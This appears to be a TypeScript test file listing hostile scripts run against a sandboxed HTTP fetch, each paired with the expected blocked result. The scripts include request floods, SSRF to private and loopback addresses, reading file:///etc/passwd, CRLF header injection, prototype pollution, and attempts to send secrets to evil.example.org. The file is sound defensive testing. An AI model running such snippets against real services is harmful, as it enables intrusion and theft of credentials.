import type { Attack } from "../../support/clean-room.ts";

const CPU = { cpuMs: 20 };
/** What a call comes to, whatever it is. */
const told = (call: string): string =>
  `let told; try { told = await ${call} } catch (error) { told = error.name + ": " + error.message } return { body: String(told) }`;
const site = '"https://api.example.com/"';
const at = (path: string): string => `"https://api.example.com/${path}"`;

/** A script that may send requests, and wants more of them than that. */
export const HTTP: readonly Attack[] = [
  ["requests one after another", `for (;;) await fetch(${site}).catch(() => {})`, "exceeded calls"],
  [
    "requests at once",
    `await Promise.allSettled(Array.from({ length: 1e3 }, () => fetch(${site})))`,
    "exceeded calls",
  ],
  [
    "requests that nobody awaits",
    `for (let i = 0; i < 10; i++) void fetch(${site}); return { body: 1 }`,
    "returned 1",
  ],
  [
    "requests that are refused",
    `for (;;) try { await fetch("http://10.0.0.1/") } catch {}`,
    "exceeded calls",
  ],
  [
    "requests after the answer",
    `ctx.waitUntil((async () => { for (;;) await fetch(${site}) })()); return { body: "out" }`,
    "exceeded calls",
  ],
  [
    "requests called off",
    `for (let i = 0; i < 10; i++) { const c = new AbortController(); const p = fetch(${at("never")}, { signal: c.signal }); c.abort(CANARY); await p.catch(() => {}) } return { body: "off" }`,
    "returned off",
  ],
  [
    "requests that wait for their turn, called off",
    `const c = new AbortController(); const all = Array.from({ length: 10 }, () => fetch(${at("never")}, { signal: c.signal }).catch((e) => e)); c.abort(CANARY); return { body: (await Promise.all(all)).every((e) => e === CANARY) }`,
    "returned true",
  ],
  [
    "bodies that nobody reads",
    `for (let i = 0; i < 10; i++) await fetch(${at("endless")}); return { body: "unread" }`,
    "returned unread",
  ],
  [
    "a body without end",
    told(`(await fetch(${at("endless")})).text()`),
    "returned TypeError: Upstream response body too large",
  ],
  [
    "clones without end",
    `const res = await fetch(${site}); const all = []; for (;;) all.push(res.clone())`,
    "exceeded ",
    CPU,
  ],
  [
    "clones, all read",
    `const res = await fetch(${site}); const all = Array.from({ length: 20 }, () => res.clone()); return { body: new Set(await Promise.all(all.map((r) => r.text()))).size }`,
    "returned 1",
  ],
  ["headers without end", told(`fetch(${at("headers")})`), "returned TypeError: Upstream request failed"],
  [
    "a header of hundreds of kilobytes",
    told(`fetch(${site}, { headers: { a: "x".repeat(3e5) } })`),
    "returned TypeError: This is no request",
  ],
  [
    "many headers",
    told(
      `fetch(${site}, { headers: Array.from({ length: 1e3 }, (_, i) => ["x-" + i, "y"]) }).then((r) => r.status)`,
    ),
    "returned 200",
  ],
  ["a URL of megabytes", told(`fetch("https://api.example.com/" + "x".repeat(2e6))`), "returned "],
  [
    "a body of megabytes",
    told(`fetch(${site}, { method: "POST", body: "x".repeat(3e6) }).then((r) => r.status)`),
    "exceeded cpu",
  ],
  [
    "a header that breaks the line",
    told(`fetch(${site}, { headers: { a: "b\\r\\nhost: evil" } })`),
    "returned TypeError",
  ],
  ...["host", "x-hookwright-hops", "cf-connecting-ip", "x-forwarded-for", "transfer-encoding"].map(
    (name): Attack => [
      `the header ${name}`,
      told(`fetch(${site}, { headers: [["${name.toUpperCase()}", "1"]] })`),
      `returned TypeError: The header ${name} is not for scripts to set`,
    ],
  ),
  [
    "this installation",
    told('fetch("https://hooks.example.com/api/v1/account")'),
    "returned TypeError: URL not allowed",
  ],
  [
    "this machine",
    told('fetch("http://0x7f.1/")'),
    "returned TypeError: URL not allowed (non-public address)",
  ],
  [
    "a file",
    told('fetch("file:///etc/passwd")'),
    "returned TypeError: URL not allowed (only http and https)",
  ],
  ["a redirect to this machine", told(`fetch(${at("inward")})`), "returned TypeError: URL not allowed"],
  [
    "redirects without end",
    told(`fetch(${at("around")})`),
    "returned TypeError: Upstream request failed: more than 5",
  ],
  [
    "options with traps",
    told(`fetch(${site}, { get method() { throw new Error("trap") } })`),
    "returned Error: trap",
  ],
  [
    "options through a proxy",
    told(
      `fetch(${site}, new Proxy({}, { get: (_, name) => (name === "method" ? "POST" : undefined) })).then((r) => r.status)`,
    ),
    "returned 200",
  ],
  [
    "a URL that changes while it is read",
    told(
      `(() => { let n = 0; return fetch({ toString: () => (n++ ? "http://10.0.0.1/" : ${site}) }) })().then((r) => r.url)`,
    ),
    "returned https://api.example.com/",
  ],
  [
    "a body that is thenable",
    told(`fetch(${site}, { method: "POST", body: { then(r) { r(CANARY) } } }).then((r) => r.status)`),
    "returned 200",
  ],
  [
    "everything made thenable",
    `Object.prototype.then = function (r) { r(CANARY) }; return { body: await fetch(${site}) }`,
    "threw TypeError",
  ],
  [
    "everything with a status of its own",
    `Object.prototype.status = 500; Object.prototype.stream = 1; Object.prototype.headers = []; const r = await fetch(${at("empty")}); return { body: [r.status, r.body] }`,
    "returned [204,null]",
  ],
  [
    "promises replaced",
    `Promise.prototype.then = () => { throw new Error("then") }; globalThis.Promise = undefined; const r = await fetch(${site}); const text = await r.text(); return { body: text }`,
    "threw Error: then",
  ],
  [
    "collections replaced",
    `for (const C of [Map, WeakMap, Set, Array, Headers, Response, Request, URL]) for (const k of Reflect.ownKeys(C.prototype)) if (typeof Object.getOwnPropertyDescriptor(C.prototype, k).value === "function" && k !== "constructor") try { C.prototype[k] = () => CANARY } catch {} ${told(`fetch(${site})`)}`,
    "",
  ],
  [
    "a Response of the script's making",
    told(`Response.prototype.text.call(Object.create(Response.prototype))`),
    "returned TypeError",
  ],
  [
    "a token of the script's making",
    told(
      `fetch(${site}, { method: "POST", body: Object.create(Object.getPrototypeOf(new Response("x").body)) }).then((r) => r.status)`,
    ),
    "returned 200",
  ],
  [
    "a body read twice",
    `const r = await fetch(${site}); const all = await Promise.allSettled([r.text(), r.text(), r.json()]); return { body: all.map((s) => s.status) }`,
    'returned ["fulfilled","rejected","rejected"]',
  ],
  [
    "a body sent twice",
    `const { body } = await fetch(${site}); const all = await Promise.allSettled([1, 2].map(() => fetch(${site}, { method: "POST", body }))); return { body: all.map((s) => s.status) }`,
    'returned ["fulfilled","rejected"]',
  ],
  [
    "an error that blames another server",
    `const e = await fetch("http://10.0.0.1/").catch((e) => e); throw e`,
    "threw TypeError: URL not allowed",
  ],
  // What a server tells of a request's secrets.
  [
    "a secret told back",
    `const r = await fetch(${at("echo")}, { headers: { authorization: "Bearer " + ctx.secrets.KEY } }); return { body: [r.headers.get("x-echo"), r.statusText, await r.text()] }`,
    "returned",
  ],
  [
    "a secret told back in pieces",
    `const r = await fetch(${at("echo-slowly")}, { headers: { authorization: String(ctx.secrets.KEY) } }); return { body: (await r.text()).includes("[secret KEY]") }`,
    "returned true",
  ],
  [
    "a secret told back, to two readers",
    `const r = await fetch(${at("echo")}, { headers: { authorization: String(ctx.secrets.KEY) } }); const c = r.clone(); return { body: [await r.text(), await c.text()] }`,
    "returned",
  ],
  [
    "a secret told back by a redirect",
    told(`fetch(${at("echo-location")}, { headers: { authorization: String(ctx.secrets.KEY) } })`),
    "returned SecretNotAllowed",
  ],
  [
    "a secret to another host",
    told(`fetch("https://evil.example.org/", { headers: { authorization: String(ctx.secrets.KEY) } })`),
    "returned SecretNotAllowed: The secret KEY is not sent to evil.example.org",
  ],
  [
    "a secret by way of a redirect",
    told(
      `fetch(${at("elsewhere")}, { headers: { authorization: String(ctx.secrets.KEY) } }).then((r) => r.text())`,
    ),
    "returned got null",
  ],
  [
    "a secret in another place",
    told(`fetch(${site}, { headers: { "x-key": String(ctx.secrets.KEY) } })`),
    "returned SecretNotAllowed: The secret KEY is not sent to api.example.com in header:x-key",
  ],
  [
    "a secret in the host",
    told(`fetch("https://" + String(ctx.secrets.KEY).replace("_", "-") + ".example.com/")`),
    "returned ",
  ],
  [
    "a secret in a body, encoded",
    told(
      `fetch(${site}, { method: "POST", headers: { "content-type": "application/json" }, body: JSON.stringify(btoa(ctx.secrets.KEY)) })`,
    ),
    "returned SecretNotAllowed",
  ],
  [
    "a secret answered unread",
    `return fetch(${at("echo")}, { headers: { authorization: String(ctx.secrets.KEY) } })`,
    "returned",
  ],
];

const u32 = (value: string): string => `new Uint32Array([${value}]).buffer`;
const ask = (op: string, argument: string): string =>
  `try { return JSON.stringify(await later('${op}', ${argument})) } catch (e) { return e.name + ": " + e.message }`;
const head = (fields: string): string =>
  `JSON.stringify({ url: "https://api.example.com/", method: "POST", headers: [], redirect: "follow", body: "none", ${fields} }) + "\\n"`;

/** The same at the door, as a script would come to it that has broken its engine. */
export const HTTP_DOOR: readonly Attack[] = [
  ["nothing", ask("fetch", "undefined"), 'returned "TypeError: This is no request'],
  ["no JSON", ask("fetch", '"{\\n"'), 'returned "TypeError: This is no request'],
  ["a list", ask("fetch", '"[]\\n"'), 'returned "TypeError: This is no request'],
  ["JSON nested deeply", ask("fetch", '"[".repeat(1e5) + "\\n"'), 'returned "TypeError: This is no request'],
  [
    "a frame that lies of its length",
    ask("fetch-bytes", u32("0xffffffff")),
    'returned "TypeError: This is no request',
  ],
  ["a method of another type", ask("fetch", head("method: {}")), 'returned "TypeError: This is no request'],
  [
    "headers of another type",
    ask("fetch", head('headers: { a: "b" }')),
    'returned "TypeError: This is no request',
  ],
  [
    "pairs of three",
    ask("fetch", head('headers: [["a", "b", "c"]]')),
    'returned "TypeError: This is no request',
  ],
  [
    "a redirect of prototypes",
    ask("fetch", head('redirect: "constructor"')),
    'returned "TypeError: This is no request',
  ],
  ["a timeout that is none", ask("fetch", head('timeoutMs: "1"')), 'returned "TypeError: This is no request'],
  ["a timeout without end", ask("fetch", head("timeoutMs: 1e300")), "returned "],
  [
    "a body of prototypes",
    ask("fetch", head('body: "__proto__"')),
    'returned "TypeError: This is no request',
  ],
  ...["-1", "0.5", "1e300", "1", '"length"', "null"].flatMap((id): readonly Attack[] => [
    [`the input ${id}`, ask("fetch", head(`body: { input: ${id} }`)), 'returned "'],
    [`the body of another, ${id}`, ask("fetch", head(`body: { stream: ${id} }`)), 'returned "'],
    [
      `an answer with the body of another, ${id}`,
      `host('answer', frame('{"body":{"stream":${id.replaceAll('"', '\\"')}}}')); host('done')`,
      "unusable bad-result",
    ],
  ]),
  ...["stream-bytes", "stream-text"].flatMap((op): readonly Attack[] => [
    [`${op} of none`, ask(op, u32("1")), 'returned "TypeError: There is no such body'],
    [`${op} without an id`, ask(op, "undefined"), 'returned "TypeError: This op takes one number'],
    [`${op} of a long id`, ask(op, "new ArrayBuffer(1e6)"), 'returned "TypeError: This op takes one number'],
  ]),
  ["a clone of none", `host('stream-clone', ${u32("7")})`, "threw TypeError: There is no such body"],
  [
    "bodies called off that never were",
    `for (let i = 0; ; i++) host('stream-cancel', ${u32("i")})`,
    "exceeded cpu",
    CPU,
  ],
  [
    "one body by two ids, read at once",
    `const { stream } = JSON.parse(await later('fetch', ${head("")})); const [id] = new Uint32Array(host('stream-clone', ${u32("stream")}));
     const all = await Promise.allSettled([stream, id, stream, id].map((one) => later('stream-text', ${u32("one")}))); return all.map((s) => s.value ?? s.reason.name)`,
    'returned ["hello","hello","TypeError","TypeError"]',
  ],
  [
    "a body that is answered twice",
    `const { stream } = JSON.parse(await later('fetch', ${head("")})); const one = frame(JSON.stringify({ body: { stream } })); host('answer', one); host('answer', one)`,
    "threw TypeError: there is an answer already",
  ],
  ["requests without their price", `for (;;) host('fetch', ${head("")})`, "exceeded calls"],
];
